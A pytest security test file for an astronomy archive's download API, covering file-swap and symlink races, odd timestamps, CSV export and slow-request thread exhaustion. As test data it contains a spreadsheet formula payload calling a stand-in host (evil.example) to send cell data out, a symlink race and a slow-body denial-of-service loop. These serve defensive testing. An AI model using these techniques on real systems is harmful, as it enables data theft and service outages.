"""The API against files someone with write access to a data mount has changed since they
were archived, and against odd values: what must not leak, and what must not be a 500."""

from __future__ import annotations

import csv
import dataclasses
import io
import os
import shutil
import tempfile
from pathlib import Path

import falcon.testing
import pytest
import sqlalchemy as sa

from api.app import create_app
from apiserver import NIGHT, OLD, build_archive
from archive_daemon import db
from fitsmaker import image

PUBLIC1 = f"{OLD}/cam/public1.fits"
MINE = f"{NIGHT}/cam/mine.fits"          # proprietary to P1 (alice)


def _extra(root):
    image(root / OLD / "cam" / "formula.fits", {"OBJECT": '=HYPERLINK("http://evil.example/?"&A1,"click")',
                                               "DATE-OBS": "2019-05-03T08:00:00"})
    image(root / OLD / "cam" / "empty.fits", {"OBJECT": "soon empty", "DATE-OBS": "2019-05-03T08:00:00"})
    image(root / OLD / "cam" / "late.fits", {"OBJECT": "soon late", "DATE-OBS": "2019-05-03T08:00:00"})
    image(root / OLD / "cam" / "swap.fits", {"OBJECT": "soon swapped", "DATE-OBS": "2019-05-03T08:00:00"})


@pytest.fixture(scope="module")
def archive(cluster):
    # On tmpfs, which keeps any mtime (as btrfs, ZFS and NFS exports of them do).
    base = Path(tempfile.mkdtemp(prefix="archive-review-api-", dir="/dev/shm" if os.path.isdir("/dev/shm") else None))
    built = build_archive(cluster, base, extra=_extra)
    built["client"] = falcon.testing.TestClient(create_app(built["config"], built["engine"]))
    yield built
    built["close"]()
    shutil.rmtree(base, ignore_errors=True)


def _id(archive, path):
    return archive["ids"][path]


def test_the_proprietary_file_is_hidden_to_begin_with(archive):
    response = archive["client"].simulate_get(f"/api/v1/files/{_id(archive, MINE)}/download")
    assert response.status_code == 404


def test_a_public_file_replaced_on_disk_by_a_proprietary_one_is_not_served_as_public(archive):
    """rename(2) a hard link of a proprietary file over an archived public one: until the
    daemon reads it again (never, while it is stopped or crash-looping), the API serves the
    new bytes under the old, public, decision. No symbolic link is involved."""
    root = archive["root"]
    secret = (root / MINE).read_bytes()
    os.link(root / MINE, root / OLD / "cam" / ".tmp")
    os.rename(root / OLD / "cam" / ".tmp", root / PUBLIC1)
    response = archive["client"].simulate_get(f"/api/v1/files/{_id(archive, PUBLIC1)}/download")
    assert not (response.status_code == 200 and response.content == secret), \
        "anonymous caller got the proprietary file's bytes through a public row"


def test_x_sendfile_hands_apache_a_name_that_can_be_swapped_after_the_check(archive):
    """With api.x_sendfile (the playbook's default) the API checks the path, then Apache opens
    it again by name, following links: the no-link rule is a check-then-use race."""
    root = archive["root"]
    app = create_app(dataclasses.replace(archive["config"], api=dataclasses.replace(archive["config"].api,
                                                                                        x_sendfile=True)),
                     archive["engine"])
    client = falcon.testing.TestClient(app)
    swap = root / OLD / "cam" / "swap.fits"
    response = client.simulate_get(f"/api/v1/files/{_id(archive, f'{OLD}/cam/swap.fits')}/download")
    assert response.status_code == 200
    named = response.headers["X-Sendfile"]
    # the attacker's loop wins once: the name becomes a link between the API's check and Apache's open
    swap.unlink()
    os.symlink(root / MINE, swap)
    with open(named.encode("latin-1"), "rb") as apache:  # what mod_xsendfile does with it
        served = apache.read()
    assert served != (root / MINE).read_bytes(), "Apache would send the proprietary file"


def test_a_file_dated_after_9999_on_disk_is_not_a_500(archive):
    late = archive["root"] / OLD / "cam" / "late.fits"
    os.utime(late, ns=(253402300800 * 10**9, 253402300800 * 10**9))
    if os.stat(late).st_mtime < 253402300800:
        pytest.skip("this filesystem clamps mtimes")
    response = archive["client"].simulate_get(f"/api/v1/files/{_id(archive, f'{OLD}/cam/late.fits')}/download")
    assert response.status_code < 500, response.text


def test_a_suffix_range_of_a_file_emptied_on_disk_is_not_a_malformed_206(archive):
    empty = archive["root"] / OLD / "cam" / "empty.fits"
    os.truncate(empty, 0)
    response = archive["client"].simulate_get(f"/api/v1/files/{_id(archive, f'{OLD}/cam/empty.fits')}/download",
                                              headers={"Range": "bytes=-5"})
    assert response.status_code in (200, 404, 416), (response.status, response.headers.get("Content-Range"))


def test_csv_cells_cannot_start_a_spreadsheet_formula(archive):
    response = archive["client"].simulate_get("/api/v1/files", params={"format": "csv", "fields": "object",
                                                                      "object": "=hyperlink", "object_match": "prefix"})
    assert response.status_code == 200
    cells = [row[1] for row in csv.reader(io.StringIO(response.text))][1:]
    assert cells, response.text
    assert not any(cell[:1] in ("=", "+", "-", "@") for cell in cells), cells


def test_a_database_outage_does_not_tell_anonymous_callers_where_the_database_is(archive):
    url = sa.engine.make_url(archive["url"]).set(host="127.0.0.1", port=1, password="wrong-password")
    engine = db.create_engine(url.render_as_string(hide_password=False))
    client = falcon.testing.TestClient(create_app(archive["config"], engine))
    for path in ("/api/v1/files", "/api/v1/health"):
        response = client.simulate_get(path)
        assert response.status_code == 503
        assert "127.0.0.1" not in response.text and "port" not in response.text, response.text
    engine.dispose()


def test_slow_request_bodies_do_not_take_every_thread(archive, tmp_path):
    """A tar request whose body trickles in (Apache's mod_reqtimeout lets 500 B/s through, and
    mod_proxy streams bodies over 16 kB to gunicorn as they come) holds a gunicorn thread
    while it is read: the stream caps are taken only after the body. 2 workers x 8 threads."""
    import socket
    import requests
    from apiserver import ApiServer
    server = ApiServer(archive["config_path"], archive["url"], tmp_path / "gunicorn.log")
    held = []
    try:
        for _ in range(2 * 8 + 2):
            s = socket.create_connection(("127.0.0.1", server.port))
            s.sendall(b"POST /api/v1/download HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                      b"Content-Length: 60000\r\n\r\n{\"ids\": [")
            held.append(s)
        try:
            answered = server.get("/api/v1/health", timeout=8).status_code
        except requests.Timeout:
            answered = None
        assert answered == 200, "the health check (and every search) waits behind slow request bodies"
    finally:
        for s in held:
            s.close()
        server.stop()
